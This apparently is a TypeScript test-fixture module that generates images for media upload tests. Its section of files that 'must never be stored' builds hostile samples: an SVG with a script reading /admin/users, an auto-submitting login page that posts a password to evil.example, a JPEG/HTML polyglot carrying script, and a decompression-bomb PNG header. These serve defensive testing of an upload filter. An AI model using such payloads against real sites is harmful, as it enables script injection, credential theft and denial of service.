import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";

/**
 * Every image the media tests upload, made in code (no binary fixtures in the repository). They
 * are small but wider than the 480 and 960 px WebP copies, so copies are made. Videos are made
 * by `video-fixtures.ts`.
 */

export type Fixture = { name: string; type?: string; body: Buffer };

export const fixtureWidth = 1200;
export const fixtureHeight = 900;

/** A picture with some detail (a gradient and a block), so encoders have something to keep. */
function picture(width = fixtureWidth, height = fixtureHeight) {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <defs><linearGradient id="g"><stop offset="0" stop-color="#1d4ed8"/><stop offset="1" stop-color="#f59e0b"/></linearGradient></defs>
    <rect width="100%" height="100%" fill="url(#g)"/>
    <rect x="10%" y="10%" width="30%" height="40%" fill="#16a34a"/>
  </svg>`;
  return sharp(Buffer.from(svg));
}

export async function makeJpeg(width = fixtureWidth, height = fixtureHeight) {
  return picture(width, height).jpeg({ quality: 80 }).toBuffer();
}

export async function makePng(width = fixtureWidth, height = fixtureHeight) {
  return picture(width, height).png().toBuffer();
}

export async function makeWebp(width = fixtureWidth, height = fixtureHeight) {
  return picture(width, height).webp({ quality: 70 }).toBuffer();
}

export async function makeGif(width = fixtureWidth, height = fixtureHeight) {
  return picture(width, height).gif().toBuffer();
}

/** Small: AVIF is slow to encode, and the server encodes it again. */
export async function makeAvif(width = 320, height = 240) {
  return picture(width, height).avif({ quality: 50, effort: 0 }).toBuffer();
}

export const gpsCameraSerial = "SERIAL-7731-NF";
export const gpsCameraMake = "Northfold Optics";

/** A phone photo that gives away where it was taken and which camera took it. */
export async function makeJpegWithGps() {
  return picture()
    .jpeg({ quality: 80 })
    .withExif({
      IFD0: { Make: gpsCameraMake, Model: gpsCameraSerial },
      IFD3: {
        GPSLatitudeRef: "N",
        GPSLatitude: "53/1 45/1 0/1",
        GPSLongitudeRef: "W",
        GPSLongitude: "2/1 15/1 0/1",
      },
    })
    .toBuffer();
}

/** Stored landscape (600x400) with EXIF Orientation 6: shown rotated, as portrait 400x600. */
export async function makeJpegOrientation6() {
  return picture(600, 400).jpeg({ quality: 80 }).withMetadata({ orientation: 6 }).toBuffer();
}

// Files that must never be stored.

export const scriptMarker = "<script";

export function makeSvgWithScript() {
  return Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
  <script>fetch("/admin/users").then((r) => r.text()).then(alert)</script>
  <rect width="100" height="100" fill="red"/>
</svg>
`,
  );
}

export function makeHtmlPage() {
  return Buffer.from(
    `<!doctype html>
<html><head><title>Log in</title></head>
<body><form action="https://evil.example/steal"><input name="password"></form>
<script>document.forms[0].submit()</script></body></html>
`,
  );
}

const polyglotPayload = "<html><script>alert(1)</script></html>";

/** A real JPEG that is also an HTML page: script in a comment segment and after the end marker. */
export async function makeJpegHtmlPolyglot() {
  const jpeg = await makeJpeg();
  const comment = Buffer.from(polyglotPayload, "latin1");
  const segment = Buffer.alloc(4);
  segment.writeUInt16BE(0xfffe, 0); // COM
  segment.writeUInt16BE(comment.length + 2, 2);
  return Buffer.concat([
    jpeg.subarray(0, 2), // SOI
    segment,
    comment,
    jpeg.subarray(2),
    Buffer.from(polyglotPayload, "latin1"),
  ]);
}

function pngChunk(type: string, data: Buffer) {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length, 0);
  const typeAndData = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData), 0);
  return Buffer.concat([length, typeAndData, crc]);
}

export const floodSide = 20_000;

/** A few hundred bytes that claim 20000x20000 pixels (400 MP): a decompression bomb's header. */
export function makePixelFloodPng() {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(floodSide, 0);
  header.writeUInt32BE(floodSide, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(2, 9); // truecolour
  // compression, filter, interlace: 0
  const firstRows = deflateSync(Buffer.alloc((floodSide * 3 + 1) * 4));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", header),
    pngChunk("IDAT", firstRows),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

/** Whether `needle` occurs anywhere in `haystack`'s bytes. */
export function containsBytes(haystack: Uint8Array, needle: string) {
  return Buffer.from(haystack).includes(Buffer.from(needle, "latin1"));
}

/** Noise hardly compresses, so its size is predictable (2000 x 1500 at quality 90: about 2.3 MB). */
export function makeNoiseJpeg(width: number, height: number) {
  return sharp({
    create: {
      width,
      height,
      channels: 3,
      background: { r: 128, g: 128, b: 128 },
      noise: { type: "gaussian", mean: 128, sigma: 60 },
    },
  })
    .jpeg({ quality: 90 })
    .toBuffer();
}
